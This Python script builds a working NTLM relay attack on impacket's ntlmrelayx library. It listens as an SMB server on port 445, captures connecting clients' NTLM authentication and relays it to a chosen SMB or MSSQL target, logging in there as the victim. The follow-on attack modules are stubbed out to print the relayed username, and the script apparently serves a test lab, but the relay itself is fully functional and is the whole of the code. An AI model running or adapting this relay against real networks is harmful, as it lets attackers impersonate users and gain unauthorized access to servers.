#!/usr/bin/env python3
"""Runs impacket's NTLM relay (the library behind ntlmrelayx.py, which Debian's
python3-impacket ships without the script): an SMB server on LISTEN_IP:445
whose clients' NTLM logins are relayed to TARGET (smb://host or mssql://host).
Once logged in to the target as the victim it does nothing more (ntlmrelayx's attack modules
are not loaded: the LDAP one needs a library Debian lacks). Prints
"relay ready" once listening; runs until killed.

usage: ntlm-relay.py LISTEN_IP TARGET LOOT_DIR
"""
import logging
import sys
import time
from threading import Thread

from impacket.examples.ntlmrelayx.clients import PROTOCOL_CLIENTS
from impacket.examples.ntlmrelayx.servers import SMBRelayServer
from impacket.examples.ntlmrelayx.utils.config import NTLMRelayxConfig
from impacket.examples.ntlmrelayx.utils.targetsutils import TargetsProcessor


class LoggedIn(Thread):
    """The attack ntlmrelayx would run on the relayed session: here, a line saying it got one."""

    def __init__(self, config, client, username, target=None, relay_client=None):
        Thread.__init__(self)
        self.daemon = True
        self.username = username

    def run(self):
        print(f"relayed {self.username}", flush=True)


def main() -> None:
    listen_ip, target, loot = sys.argv[1:4]
    logging.basicConfig(level=logging.INFO, format="%(message)s", stream=sys.stdout)
    config = NTLMRelayxConfig()
    config.setProtocolClients(PROTOCOL_CLIENTS)
    config.setTargets(TargetsProcessor(singleTarget=target, protocolClients=PROTOCOL_CLIENTS))
    config.setMode("RELAY")
    config.setAttacks({"SMB": LoggedIn, "MSSQL": LoggedIn})
    config.setInterfaceIp(listen_ip)
    config.setListeningPort(445)
    config.setSMB2Support(True)
    config.setLootdir(loot)
    config.setOutputFile(None)
    config.setExeFile(None)
    config.setCommand(None)
    config.setEnumLocalAdmins(False)
    config.setDisableMulti(True)
    config.setEncoding(sys.getdefaultencoding())
    config.setRedirectHost(None)
    config.setInteractive(False)
    config.setIPv6(False)
    config.setWpadOptions(None, 1)
    config.setExploitOptions(False, False)
    config.setRPCOptions("TSCH", False, "", None, 445)
    config.setLDAPOptions(True, True, True, True, None, True, None, False, False, False, None)
    config.setMSSQLOptions([])
    config.setIMAPOptions("password", "INBOX", False, 5)
    config.setADCSOptions(None)
    config.setIsADCSAttack(False)
    config.setIsShadowCredentialsAttack(False)
    config.setAltName(None)
    server = SMBRelayServer(config)
    server.daemon = True
    server.start()
    print("relay ready", flush=True)
    while server.is_alive():
        time.sleep(0.5)


if __name__ == "__main__":
    main()
